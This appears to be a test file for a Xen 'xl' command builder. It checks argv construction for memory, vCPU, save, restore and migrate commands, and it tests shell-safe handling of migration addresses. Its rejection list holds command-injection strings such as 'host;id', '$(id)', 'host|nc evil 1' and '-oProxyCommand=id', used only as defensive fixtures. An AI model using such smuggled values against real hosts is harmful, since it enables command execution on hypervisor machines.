// The builders of mem-set, vcpu-set, save, restore and migrate: exact argv with `--` before the
// domain, refusal of values xl would misread, and the migration address. xl pastes that address
// into `exec ssh ADDRESS xl migrate-receive` and runs it with `sh -c` on the dom0, so every address
// the builder accepts is run through a real sh here to prove it stays one plain word.

import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { describe, test } from 'node:test';
import * as xl from '../../../client/src/xl/commands';
import { buildArgv, programOptions, type ArgvOptions } from '../../../client/src/xl/runner';

/** Addresses that must never reach xl's shell line. */
const HOSTILE_ADDRESSES = [
  '',
  'host;id',
  'host && reboot',
  '$(id)',
  '`id`',
  'host|nc evil 1',
  'host > /etc/passwd',
  'host\nreboot',
  'host reboot',
  '-oProxyCommand=id',
  '-p 2222 host',
  'root@-oProxyCommand=id',
  '-x@host',
  '.hidden',
  'user@',
  '@host',
  'a@b@c',
  'host:22',
  '[::1]',
  '::1',
  'fe80::1%eth0',
  "ho'st",
  'ho"st',
  'host\\',
  'ho*st',
  'host#comment',
  'hôst',
  'host\0',
  'x'.repeat(256),
];

const ACCEPTED_ADDRESSES = ['xen2', 'root@xen2', 'root@xen2.example.org', '192.168.1.20', 'root@10.0.0.7', 'xen_2-b', 'ad.min@host', 'localhost', '0host'];

/** The words `sh -c` makes of xl's line with ADDRESS in it (printf instead of exec ssh). */
function wordsOfRune(address: string): string[] {
  return execFileSync('sh', ['-c', `printf '%s\\0' ssh ${address} xl migrate-receive`], { encoding: 'utf8' }).split('\0').slice(0, -1);
}

describe('resource builders', () => {
  test('mem-set takes whole MiB with the m suffix after --', () => {
    const command = xl.memSet('web01', 2048);
    assert.deepEqual(command.args, ['mem-set', '--', 'web01', '2048m']);
    assert.equal(command.description, 'set the memory of domain "web01" to 2048 MiB');
    assert.deepEqual(xl.memSet(7, 32).args, ['mem-set', '--', '7', '32m']);
    assert.deepEqual(xl.memSet('-leading', 64).args, ['mem-set', '--', '-leading', '64m']);
    for (const bad of [0, -1, 1.5, NaN, Infinity, xl.MEM_SET_LIMIT_MIB + 1]) assert.throws(() => xl.memSet('web01', bad), RangeError, String(bad));
  });

  test('vcpu-set takes a positive whole number after --, never --ignore-host', () => {
    assert.deepEqual(xl.vcpuSet('web01', 2).args, ['vcpu-set', '--', 'web01', '2']);
    assert.deepEqual(xl.vcpuSet(3, 1).args, ['vcpu-set', '--', '3', '1']);
    for (const bad of [0, -2, 2.5, NaN, 2 ** 31]) assert.throws(() => xl.vcpuSet('web01', bad), RangeError, String(bad));
  });

  test('save: -c keeps the guest, -p leaves it paused, neither stops it (and the description says so)', () => {
    const stop = xl.save(3, '/var/lib/xen/save/web01-20261207-0530.save');
    assert.deepEqual(stop.args, ['save', '--', '3', '/var/lib/xen/save/web01-20261207-0530.save']);
    assert.match(stop.description, /and stop it$/);
    const keep = xl.save('web01', '/srv/a b.save', { keepRunning: true });
    assert.deepEqual(keep.args, ['save', '-c', '--', 'web01', '/srv/a b.save']);
    assert.doesNotMatch(keep.description, /stop it/);
    const paused = xl.save('web01', '/srv/x.save', { paused: true });
    assert.deepEqual(paused.args, ['save', '-p', '--', 'web01', '/srv/x.save']);
    assert.match(paused.description, /and leave it paused$/);
    for (const bad of ['', 'relative.save', '-c', 'x\0y']) assert.throws(() => xl.save('web01', bad), RangeError, JSON.stringify(bad));
  });

  test('restore: the file after --, -p to leave the guest paused; paths must be absolute', () => {
    assert.deepEqual(xl.restore('/var/lib/xen/save/-odd.save').args, ['restore', '--', '/var/lib/xen/save/-odd.save']);
    assert.deepEqual(xl.restore('/a.save', { paused: true }).args, ['restore', '-p', '--', '/a.save']);
    for (const bad of ['', 'a.save', '-p', '/a\0']) assert.throws(() => xl.restore(bad), RangeError, JSON.stringify(bad));
  });

  test("migrate: xl's own ssh, the domain and the address after --", () => {
    const command = xl.migrate('web01', 'root@xen2');
    assert.deepEqual(command.args, ['migrate', '--', 'web01', 'root@xen2']);
    assert.equal(command.description, 'migrate domain "web01" to root@xen2');
    assert.deepEqual(xl.migrate(5, '10.0.0.7').args.slice(-2), ['5', '10.0.0.7']);
  });

  test('migrate refuses every address that is more than [user@]host, in the builder itself', () => {
    for (const address of HOSTILE_ADDRESSES) {
      assert.notEqual(xl.migrationAddressProblem(address), undefined, JSON.stringify(address));
      assert.throws(() => xl.migrate('web01', address), RangeError, JSON.stringify(address));
    }
  });

  test('every accepted address stays one plain word in the shell line xl builds', () => {
    for (const address of ACCEPTED_ADDRESSES) {
      assert.equal(xl.migrationAddressProblem(address), undefined, address);
      assert.deepEqual(wordsOfRune(address), ['ssh', address, 'xl', 'migrate-receive'], address);
    }
  });

  test('over ssh and sudo the words reach xl unchanged (the runner quotes each one)', () => {
    const remote: ArgvOptions = { target: { kind: 'ssh', destination: 'admin@xen1', controlDir: '/tmp/x' }, xlPath: 'xl', sudo: 'always' };
    for (const command of [xl.save("it's", '/srv/save/a b$(id).save'), xl.memSet('-x y', 64), xl.migrate('web01', 'root@xen2'), xl.restore('/srv/`id`.save')]) {
      const line = buildArgv(programOptions(command, remote), command.args, { uid: 1000 }).at(-1) ?? '';
      const words = execFileSync('sh', ['-c', `printf '%s\\0' ${line.slice(line.indexOf('exec ') + 'exec '.length)}`], { encoding: 'utf8' }).split('\0').slice(0, -1);
      assert.deepEqual(words, ['sudo', '-n', '--', 'xl', ...command.args]);
    }
  });
});
